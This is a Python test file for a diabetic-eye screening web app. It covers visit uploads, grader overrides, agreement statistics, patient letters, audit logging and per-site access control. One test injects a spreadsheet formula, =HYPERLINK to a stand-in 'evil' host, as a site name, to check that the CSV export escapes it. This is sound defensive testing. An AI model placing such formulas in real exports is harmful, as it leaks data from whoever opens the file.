"""The screening programme through the API (no browser), on SQLite and PostgreSQL: a clinic user
uploads a visit of four photos (two per eye, one ungradable), the outcome says "retake" for that
eye, a grader overrides a grade, and the outcome, the agreement figures, the patient letter and
the audit log follow. Ownership: a clinic user sees only their site's visits, a grader the
queue's."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.helpers.pdf import pdf_text
from tests.helpers.web import (
    api_token,
    bearer,
    dark_fundus_png,
    face_png,
    fundus_png,
    register,
    stored_files,
)

SEEDS = {"right_macula": 1, "right_disc": 2, "left_disc": 3}
"""Three gradable photos; the left macula-centred one is too dark to grade. The tiny test model
grades these below 3 (asserted), so a grader's grade 3 must change the visit's outcome."""


def eye_with_missing_field(grade: int) -> str:
    """The rule of an eye graded ``grade`` whose macula-centred photo is ungradable."""
    from retinascreen.web.policy import load_policy

    policy = load_policy()
    rule, retake = policy.for_grade(grade), policy.for_finding("ungradable")
    return rule.id if rule.rank > retake.rank else retake.id


def set_role(app: Any, username: str, role: str, site: str | None = None) -> None:
    from retinascreen.web.accounts import set_role as assign

    assign(
        username,
        role,
        site=site,
        database_url=app.config["DATABASE_URL"],
        instance=Path(app.instance_path),
    )


def visit_photos() -> dict[str, tuple[io.BytesIO, str]]:
    photos = {slot: (io.BytesIO(fundus_png(seed)), f"{slot}.png") for slot, seed in SEEDS.items()}
    photos["left_macula"] = (io.BytesIO(dark_fundus_png()), "left_macula.png")
    return photos


def post_visit(client: Any, token: str, **fields: Any):
    data = {"patient_id": "PX-0042", "visit_date": "2026-11-30", **visit_photos(), **fields}
    return client.post(
        "/api/v1/visits", headers=bearer(token), data=data, content_type="multipart/form-data"
    )


def people(app: Any) -> dict[str, tuple[Any, str]]:
    """nurse (clinic, site north), south (clinic, site south) and grace (grader)."""
    clients = {}
    for name, role, site in (
        ("nurse", "clinic", "north"),
        ("south", "clinic", "south"),
        ("grace", "grader", None),
    ):
        client = app.test_client()
        register(client, name)
        set_role(app, name, role, site)
        clients[name] = (client, api_token(client, name))
    return clients


@pytest.fixture
def no_review_policy(tmp_path: Path) -> Path:
    """The bundled policy with every review rule off: no visit enters the queue."""
    from retinascreen.web.policy import DEFAULT_POLICY

    text = DEFAULT_POLICY.read_text()
    for old, new in (
        ("ungradable = true", "ungradable = false"),
        ("referable = true", "referable = false"),
        ("maculopathy = true", "maculopathy = false"),
        ("near_threshold = 0.10", "near_threshold = -1.0"),
        ("random_negatives = 0.10", "random_negatives = 0.0"),
    ):
        assert old in text
        text = text.replace(old, new)
    path = tmp_path / "policy.toml"
    path.write_text(text)
    return path


def test_a_grader_sees_only_the_queues_visits(tmp_path, web_predictor, no_review_policy):
    from retinascreen.web import dispose
    from tests.helpers.web import make_app

    app = make_app(tmp_path / "instance", web_predictor, SCREENING_POLICY=str(no_review_policy))
    try:
        clients = people(app)
        nurse, nurse_token = clients["nurse"]
        grace, grace_token = clients["grace"]
        visit = post_visit(nurse, nurse_token).get_json()
        assert visit["queue"] is None  # no rule sent it
        heatmap = visit["photos"][0]["heatmap"]
        assert (
            grace.get(f"/api/v1/visits/{visit['id']}", headers=bearer(grace_token)).status_code
            == 404
        )
        assert grace.get(heatmap, headers=bearer(grace_token)).status_code == 404
        assert grace.get("/api/v1/visits", headers=bearer(grace_token)).get_json()["total"] == 0
        assert grace.get(f"/visits/{visit['id']}").status_code == 404
        assert nurse.get(heatmap, headers=bearer(nurse_token)).status_code == 200
    finally:
        dispose(app)


def test_visit_loop_through_the_api(db_app):
    clients = people(db_app)
    nurse, nurse_token = clients["nurse"]
    grace, grace_token = clients["grace"]
    south, south_token = clients["south"]

    answer = post_visit(nurse, nurse_token, site="ignored: the account's site wins")
    assert answer.status_code == 201, answer.get_json()
    visit = answer.get_json()
    vid = visit["id"]
    assert visit["site"] == "north" and visit["patient_id"] == "PX-0042"
    assert visit["visit_date"] == "2026-11-30"
    photos = {(p["eye"], p["field"]): p for p in visit["photos"]}
    assert len(photos) == 4 and not photos[("left", "macula")]["gradable"]
    machine = {slot: photos[tuple(slot.split("_"))] for slot in SEEDS}  # type: ignore[index]
    assert all(p["gradable"] and p["grade"] < 3 for p in machine.values()), machine

    outcome = visit["outcome"]
    left, right = outcome["eyes"]["left"], outcome["eyes"]["right"]
    assert left["retake"] and left["final"]["missing_fields"] == ["macula"]  # "retake" shown
    assert left["rule"]["id"] == eye_with_missing_field(machine["left_disc"]["grade"])
    assert not right["retake"]
    assert right["final"]["grade"] == max(
        machine[s]["grade"] for s in ("right_macula", "right_disc")
    )
    assert outcome["rule"]["id"] in (left["rule"]["id"], right["rule"]["id"])
    assert f"rule '{outcome['rule']['id']}'" in outcome["decided_by"]
    assert {"eye": "left", "rule": "ungradable", "text": "no gradable macula photo"} in (
        visit["queue"]["reasons"]
    )

    # ownership: another site's clinic user sees nothing; the grader sees the queue's visit
    assert south.get(f"/api/v1/visits/{vid}", headers=bearer(south_token)).status_code == 404
    assert south.get("/api/v1/visits", headers=bearer(south_token)).get_json()["total"] == 0
    assert nurse.get("/api/v1/visits", headers=bearer(nurse_token)).get_json()["total"] == 1
    heatmap = visit["photos"][0]["heatmap"]
    assert nurse.get(heatmap, headers=bearer(nurse_token)).status_code == 200
    assert south.get(heatmap, headers=bearer(south_token)).status_code == 404
    assert nurse.get("/api/v1/review-queue", headers=bearer(nurse_token)).status_code == 403
    queue = grace.get("/api/v1/review-queue", headers=bearer(grace_token)).get_json()
    assert [item["visit_id"] for item in queue["items"]] == [vid]
    review = {"eyes": {"right": {"gradable": True, "grade": 3}}, "note": "IRMA nasal to disc"}
    refused = nurse.post(f"/api/v1/visits/{vid}/reviews", headers=bearer(nurse_token), json=review)
    assert refused.status_code == 403
    before = grace.get("/api/v1/agreement", headers=bearer(grace_token)).get_json()
    assert before["overall"]["reviewed_eyes"] == 0

    # the grader overrides the right eye: severe NPDR now decides the visit
    answer = grace.post(f"/api/v1/visits/{vid}/reviews", headers=bearer(grace_token), json=review)
    assert answer.status_code == 201, answer.get_json()
    after = answer.get_json()
    right = after["outcome"]["eyes"]["right"]
    assert right["source"] == "grader" and right["final"]["grade"] == 3
    assert right["machine"]["grade"] == max(
        p["grade"] for p in machine.values() if p["eye"] == "right"
    )
    assert after["outcome"]["rule"]["id"] == "severe-npdr" != outcome["rule"]["id"]
    assert after["outcome"]["summary"] == "refer (soon)"
    assert "grader grace" in after["outcome"]["decided_by"]
    assert after["outcome"]["eyes"]["left"]["retake"]  # the left eye still needs its retake
    assert after["queue"] is None
    assert grace.get("/api/v1/review-queue", headers=bearer(grace_token)).get_json()["items"] == []
    assert after["reviews"][0]["machine"]["grade"] == right["machine"]["grade"]  # both kept

    figures = grace.get("/api/v1/agreement", headers=bearer(grace_token)).get_json()["overall"]
    assert figures["reviewed_eyes"] == 1 and figures["graded_pairs"] == 1
    assert figures["exact_agreement"] == 0.0  # machine grade < 3, grader 3
    refers = right["machine"]["grade"] >= 2
    assert (figures["referable_tp"], figures["referable_fn"]) == (int(refers), int(not refers))
    assert figures["sensitivity"] == float(refers)
    assert 0 < figures["sensitivity_ci_high"] - figures["sensitivity_ci_low"] < 1  # one eye: wide
    assert figures["outcome_severe-npdr"] == 1 and figures["queue_open"] == 0

    # the patient letter tells the patient, in plain words, what happens next
    letter = nurse.get(f"/visits/{vid}/letter.pdf")  # the page's link (signed-in session)
    assert letter.status_code == 200 and letter.mimetype == "application/pdf"
    assert south.get(f"/visits/{vid}/letter.pdf").status_code == 404
    text = " ".join(pdf_text(letter.data).split())
    assert "Your diabetic eye screening result" in text and "PX-0042" in text
    assert "Your right eye" in text and "Your left eye" in text
    assert "should see soon" in text  # the severe-NPDR rule's letter sentence
    assert "not clear enough to read" in text  # the left eye's retake
    assert "We are referring you soon" in text

    from retinascreen.web.models import AuditEvent

    with Session(db_app.extensions["retinascreen.engine"]) as db:
        events = db.scalars(select(AuditEvent).where(AuditEvent.event == "review")).all()
    assert len(events) == 1 and events[0].username == "grace"
    assert "right: grade" in events[0].detail and "-> grade 3" in events[0].detail
    assert f"outcome {outcome['rule']['id']} -> severe-npdr" in events[0].detail


def test_a_bad_photo_refuses_the_whole_visit(web_app):
    client = web_app.test_client()
    register(client, "nurse")
    token = api_token(client, "nurse")
    answer = post_visit(client, token, right_disc=(io.BytesIO(face_png()), "portrait.png"))
    assert answer.status_code == 422
    assert answer.get_json()["error"].startswith("Right eye, disc-centred photo (portrait.png):")
    assert stored_files(web_app) == []
    assert client.get("/api/v1/visits", headers=bearer(token)).get_json()["total"] == 0
    for fields, status in (
        ({"patient_id": "   "}, 400),
        ({"visit_date": "30/11/2026"}, 400),
        ({"visit_date": "2999-01-01"}, 422),
        ({"eye_fundus": (io.BytesIO(fundus_png(1)), "x.png")}, 400),
    ):
        assert post_visit(client, token, **fields).status_code == status, fields
    empty = client.post(
        "/api/v1/visits",
        headers=bearer(token),
        data={"patient_id": "PX-1"},
        content_type="multipart/form-data",
    )
    assert empty.status_code == 422 and "at least one photograph" in empty.get_json()["error"]


def test_graders_do_not_upload_and_clinic_users_do_not_review(web_app):
    clients = people(web_app)
    grace, grace_token = clients["grace"]
    assert post_visit(grace, grace_token).status_code == 403
    nurse, _ = clients["nurse"]  # signed in
    assert nurse.get("/review").status_code == 403
    assert nurse.get("/agreement").status_code == 403


def test_random_share_of_negatives_and_near_threshold_rules():
    from retinascreen.web.outcome import PhotoFinding, review_reasons, sampled
    from retinascreen.web.policy import load_policy

    policy = load_policy()
    negative = [
        PhotoFinding(i, eye, fld, True, 0, False, 0.05)
        for i, (eye, fld) in enumerate((("right", "macula"), ("left", "macula")))
    ]
    keys = [f"{i:032x}" for i in range(2000)]
    queued = [k for k in keys if review_reasons(negative, policy, sample_key=k)]
    assert 0.08 < len(queued) / len(keys) < 0.12  # 10 % of negatives, drawn per visit
    assert all(sampled(k, 0.10) for k in queued)
    near = [*negative[:1], PhotoFinding(9, "left", "macula", True, 1, False, 0.45)]
    reasons = review_reasons(near, policy, sample_key="0" * 32)
    assert {"eye": "left", "rule": "near-threshold", "text": "near the referral threshold"} in (
        reasons
    )


def test_policy_table_from_toml(tmp_path):
    from retinascreen.errors import ConfigError
    from retinascreen.web.outcome import HumanGrade, PhotoFinding, visit_outcome
    from retinascreen.web.policy import DEFAULT_POLICY, load_policy

    policy = load_policy()
    assert [policy.for_grade(g).summary for g in range(5)] == [
        "rescreen in 12 months",
        "rescreen in 12 months",
        "refer (routine)",
        "refer (soon)",
        "refer (urgent)",
    ]
    photos = [
        PhotoFinding(1, "right", "macula", True, 1, False, 0.2),
        PhotoFinding(2, "right", "disc", True, 4, True, 0.9),
        PhotoFinding(3, "left", "macula", True, 0, False, 0.1, maculopathy=True),
    ]
    outcome = visit_outcome(photos, {}, policy)
    assert (outcome.rule.id, outcome.eye, outcome.photo_id) == ("proliferative-dr", "right", 2)
    assert outcome.eyes[1].rule.id == "maculopathy"  # the hook for the maculopathy flag
    human = {"right": HumanGrade(True, 1, False, "grace")}
    overridden = visit_outcome(photos, human, policy)
    assert overridden.rule.id == "maculopathy" and overridden.eye == "left"

    edited = tmp_path / "site.toml"
    edited.write_text(DEFAULT_POLICY.read_text().replace("months = 12", "months = 24", 1))
    assert load_policy(str(edited)).for_grade(0).summary == "rescreen in 24 months"
    broken = tmp_path / "broken.toml"
    broken.write_text(DEFAULT_POLICY.read_text().replace("grades = [4]", "grades = [7]"))
    with pytest.raises(ConfigError, match="grades are 0-4"):
        load_policy(str(broken))


def test_a_bad_policy_file_stops_the_start(tmp_path, web_predictor):
    from retinascreen.errors import ConfigError
    from tests.helpers.web import make_app

    broken = tmp_path / "policy.toml"
    broken.write_text("[[rules]]\nid = 'x'\n")
    with pytest.raises(ConfigError, match="lacks 'action'"):
        make_app(tmp_path / "instance", web_predictor, SCREENING_POLICY=str(broken))


def test_agreement_csv_is_safe_against_formula_injection(web_app):
    import csv

    client = web_app.test_client()
    register(client, "nurse")
    set_role(web_app, "nurse", "clinic", '=HYPERLINK("http://evil/?"&A1)')
    assert post_visit(client, api_token(client, "nurse")).status_code == 201
    assert client.get("/agreement.csv").status_code == 403  # a clinic user: not theirs
    set_role(web_app, "nurse", "admin")
    answer = client.get("/agreement.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [(r["group"], r["value"]) for r in rows] == [
        ("all", ""),
        ("site", '\'=HYPERLINK("http://evil/?"&A1)'),  # shown as text, never run
        ("month", "2026-11"),
    ]
    assert rows[0]["visits"] == "1" and rows[0]["retake_eyes"] == "1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_form_upload_clinical_report_and_a_migrated_visit(web_app):
    from tests.helpers.pdf import images
    from tests.helpers.web import post_form

    client = web_app.test_client()
    register(client, "nurse")
    forged = client.post(  # no CSRF token: refused before anything is graded
        "/visits/new",
        data={"patient_id": "PX-7", **visit_photos()},
        content_type="multipart/form-data",
    )
    assert forged.status_code == 400 and stored_files(web_app) == []
    bad = {**visit_photos(), "right_disc": (io.BytesIO(face_png()), "portrait.png")}
    answer = post_form(
        client,
        "/visits/new",
        {"patient_id": "PX-7", **bad},
        content_type="multipart/form-data",
    )
    assert answer.status_code == 422  # the form again, with the message and the values kept
    page = answer.get_data(as_text=True)
    assert "Right eye, disc-centred photo (portrait.png): This does not look like a fundus" in page
    assert 'value="PX-7"' in page and stored_files(web_app) == []

    answer = post_form(
        client,
        "/visits/new",
        {"patient_id": "PX-7", **visit_photos()},
        content_type="multipart/form-data",
    )
    assert answer.status_code == 303
    url = answer.headers["Location"]
    page = client.get(url).get_data(as_text=True)
    assert "data-retake" in page and "Outcome:" in page
    report = client.get(url + "/report.pdf")
    text = " ".join(pdf_text(report.data).split())
    assert "visit report" in text and "PX-7" in text and "Decided by" in text
    assert "Right eye" in text and "Left eye" in text
    assert len(images(report.data)) == 4 + 3  # every photo and each gradable one's heat map

    # a screening made on the single-photo page before visits existed shows as its own visit
    from retinascreen.web.models import Screening
    from retinascreen.web.visit_models import Visit

    engine = web_app.extensions["retinascreen.engine"]
    with Session(engine) as db:
        photo = db.scalars(select(Screening).order_by(Screening.id)).first()
        assert photo is not None
        old = Visit(visit_date=photo.created.date(), user_id=photo.user_id, migrated=True)
        db.add(old)
        db.flush()
        copy = Screening(
            **{
                c.name: getattr(photo, c.name)
                for c in Screening.__table__.columns
                if c.name != "id"
            }
        )
        copy.visit_id, copy.eye, copy.field = old.id, None, None
        db.add(copy)
        db.commit()
        public_id = old.public_id
    page = client.get(f"/visits/{public_id}").get_data(as_text=True)
    assert "Unrecorded eye" in page and "Right eye" not in page
    assert client.get("/visits").status_code == 200


def test_deleting_an_account_with_its_screenings_deletes_its_visits(web_app):
    from retinascreen.web.accounts import delete_user
    from retinascreen.web.visit_models import ReviewItem, Visit

    client = web_app.test_client()
    register(client, "nurse")
    assert post_visit(client, api_token(client, "nurse")).status_code == 201
    delete_user(
        "nurse",
        screenings="delete",
        database_url=web_app.config["DATABASE_URL"],
        instance=Path(web_app.instance_path),
    )
    with Session(web_app.extensions["retinascreen.engine"]) as db:
        assert db.scalars(select(Visit)).all() == []
        assert db.scalars(select(ReviewItem)).all() == []
    assert stored_files(web_app) == []


def test_the_review_page_shows_vessel_and_lesion_overlays(
    tmp_path, web_predictor, segmentation_models
):
    import re

    from retinascreen.web import dispose
    from tests.helpers.web import make_app

    app = make_app(
        tmp_path / "instance",
        web_predictor,
        SEGMENTATION=True,
        VESSEL_MODEL=str(segmentation_models["vessels"]),
        LESION_MODEL=str(segmentation_models["lesions"]),
    )
    try:
        client = app.test_client()
        register(client, "chief")
        set_role(app, "chief", "admin")
        visit = post_visit(client, api_token(client, "chief")).get_json()
        page = client.get(f"/review/{visit['id']}").get_data(as_text=True)
        overlays = re.findall(r'src="([^"]+/(?:vessels|lesions))"', page)
        kinds = [url.rsplit("/", 1)[1] for url in overlays]  # lesions only on gradable photos
        assert (kinds.count("vessels"), kinds.count("lesions")) == (4, 3)
        assert all(client.get(url).mimetype == "image/png" for url in overlays)
    finally:
        dispose(app)
